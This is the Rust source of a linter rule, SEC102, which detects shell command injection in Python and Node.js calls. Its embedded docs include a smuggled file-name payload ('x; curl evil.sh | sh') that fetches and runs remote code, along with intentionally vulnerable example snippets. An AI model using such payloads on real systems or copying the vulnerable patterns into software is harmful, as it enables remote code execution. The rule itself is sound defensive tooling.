//! SEC102 command-injection: a shell command built from non-constant data.

use tree_sitter::Node;

use crate::analysis::{argument_removal_range, named_children, Arguments, Sink};
use crate::rules::{
    Applicability, Captures, Category, Check, Checker, Edit, FixAvailability, Rule, Severity,
};
use crate::syntax::Family;

pub static RULE: Rule = Rule {
    code: "SEC102",
    name: "command-injection",
    category: Category::Security,
    severity: Severity::Error,
    cwe: &[78],
    owasp: Some("A03:2021 Injection"),
    summary: "A shell command is built from non-constant data; run the program with an argument list and no shell instead.",
    docs: DOCS,
    fix: FixAvailability::Sometimes,
    checks: &[
        Check {
            family: Family::Python,
            query_path: "python/calls.scm",
            query: include_str!("../../../../queries/python/calls.scm"),
            run: check_python,
        },
        Check {
            family: Family::JavaScript,
            query_path: "javascript/calls.scm",
            query: include_str!("../../../../queries/javascript/calls.scm"),
            run: check_javascript,
        },
    ],
};

/// Functions that always hand their first argument to a shell.
const PY_SHELL: &[&str] = &[
    "os.system",
    "os.popen",
    "subprocess.getoutput",
    "subprocess.getstatusoutput",
    "commands.getoutput",
    "commands.getstatusoutput",
];

/// Functions that use a shell only with `shell=True`.
const PY_SHELL_OPTIONAL: &[&str] = &[
    "subprocess.run",
    "subprocess.call",
    "subprocess.check_call",
    "subprocess.check_output",
    "subprocess.Popen",
];

const PY_ALL: &[&str] = &[
    "os.system",
    "os.popen",
    "subprocess.getoutput",
    "subprocess.getstatusoutput",
    "commands.getoutput",
    "commands.getstatusoutput",
    "subprocess.run",
    "subprocess.call",
    "subprocess.check_call",
    "subprocess.check_output",
    "subprocess.Popen",
];

fn is_true(checker: &Checker, node: Node) -> bool {
    node.kind() == "true" || checker.text(node) == "True"
}

fn check_python<'a>(checker: &mut Checker<'a>, caps: &Captures<'_, 'a>) {
    let (Some(func), Some(args_node)) = (caps.get("func"), caps.get("args")) else {
        return;
    };
    let Some(name) = checker.resolve_callee(func, PY_ALL) else {
        return;
    };
    let args = Arguments::of(args_node);
    if PY_SHELL.contains(&name.as_str()) {
        let Some(cmd) = args
            .get(0, "cmd", checker.source)
            .or_else(|| args.get(0, "command", checker.source))
        else {
            return;
        };
        if !checker.is_constant(cmd, Sink::Shell) {
            let text = super::callee(checker.text(cmd));
            checker.report(func, format!(
                "`{name}` runs `{text}` through a shell, and it is built from non-constant data; use `subprocess.run([...])` with an argument list instead"
            ));
        }
        return;
    }
    if !PY_SHELL_OPTIONAL.contains(&name.as_str()) {
        return;
    }
    let Some(shell) = args.keyword_node("shell", checker.source) else {
        return;
    };
    if !shell
        .child_by_field_name("value")
        .is_some_and(|v| is_true(checker, v))
    {
        return;
    }
    let Some(cmd) = args.get(0, "args", checker.source) else {
        return;
    };
    let is_list = matches!(cmd.kind(), "list" | "tuple");
    // With a list, only the first element is the shell command, but callers who pass a list
    // with shell=True expect each element to be one argument: judge every element.
    let dynamic = if is_list {
        named_children(cmd)
            .into_iter()
            .any(|e| !checker.is_constant(e, Sink::Shell))
    } else {
        !checker.is_constant(cmd, Sink::Shell)
    };
    if !dynamic {
        return;
    }
    let text = super::callee(checker.text(cmd));
    if is_list {
        let removal = argument_removal_range(shell);
        checker
            .report(func, format!(
                "`{name}` is called with `shell=True` and a list built from non-constant data (`{text}`); with a shell only the first element is run as the command; drop `shell=True`"
            ))
            .with_fix("Remove `shell=True`", Applicability::Safe, vec![Edit { range: removal, content: String::new() }]);
    } else {
        checker.report(func, format!(
            "`{name}` runs `{text}` through a shell (`shell=True`), and it is built from non-constant data; pass an argument list and drop `shell=True` (or `shlex.quote` each value)"
        ));
    }
}

const JS_SHELL: &[&str] = &["child_process.exec", "child_process.execSync"];

fn check_javascript<'a>(checker: &mut Checker<'a>, caps: &Captures<'_, 'a>) {
    let (Some(func), Some(args)) = (caps.get("func"), caps.get("args")) else {
        return;
    };
    let Some(name) = checker.resolve_callee(func, JS_SHELL) else {
        return;
    };
    if !JS_SHELL.contains(&name.as_str()) {
        return;
    }
    let Some(cmd) = named_children(args)
        .into_iter()
        .find(|a| a.kind() != "comment")
    else {
        return;
    };
    if checker.is_constant(cmd, Sink::Shell) {
        return;
    }
    let method = name.rsplit('.').next().unwrap_or("exec");
    let file = if method == "execSync" {
        "execFileSync"
    } else {
        "execFile"
    };
    let text = super::callee(checker.text(cmd));
    checker.report(func, format!(
        "`{method}` runs `{text}` through a shell, and it is built from non-constant data; use `{file}(program, [args])`, which passes arguments without a shell"
    ));
}

const DOCS: &str = r#"## What it does
Flags shell commands assembled from data the code does not fix: `os.system`, `os.popen`,
`subprocess.getoutput`, `subprocess.*(…, shell=True)` in Python, and `child_process.exec` /
`execSync` in Node. Commands made only of constants, or whose variable parts pass through
`shlex.quote`, are not reported; neither is `subprocess.run([...])` without a shell or
`execFile`/`spawn` without `shell: true`.

## Why is this bad?
A shell interprets `;`, `|`, `$(…)` and backticks. A file name like `x; curl evil.sh | sh` turns
`os.system(f"convert {name} out.png")` into remote code execution on your server.

## Example
```python
def thumbnail(name: str):
    subprocess.run(f"convert {name} -resize 64x64 thumb.png", shell=True)
```
```javascript
const { exec } = require("child_process");
app.get("/ping", (req, res) => exec(`ping -c 1 ${req.query.host}`, (e, out) => res.send(out)));
```

## Use instead
```python
def thumbnail(name: str):
    subprocess.run(["convert", name, "-resize", "64x64", "thumb.png"], check=True)
```
```javascript
const { execFile } = require("child_process");
app.get("/ping", (req, res) =>
  execFile("ping", ["-c", "1", req.query.host], (e, out) => res.send(out)));
```

## Fix
When `shell=True` is passed together with a list, the safe fix removes `shell=True`: the list is
then run as the program and its arguments, which is what the list form means.

## References
- [CWE-78: OS Command Injection](https://cwe.mitre.org/data/definitions/78.html)
- [OWASP A03:2021 Injection](https://owasp.org/Top10/A03_2021-Injection/)
- [Python `subprocess` security considerations](https://docs.python.org/3/library/subprocess.html#security-considerations)
- [Node.js `child_process.execFile`](https://nodejs.org/api/child_process.html#child_processexecfilefile-args-options-callback)
"#;
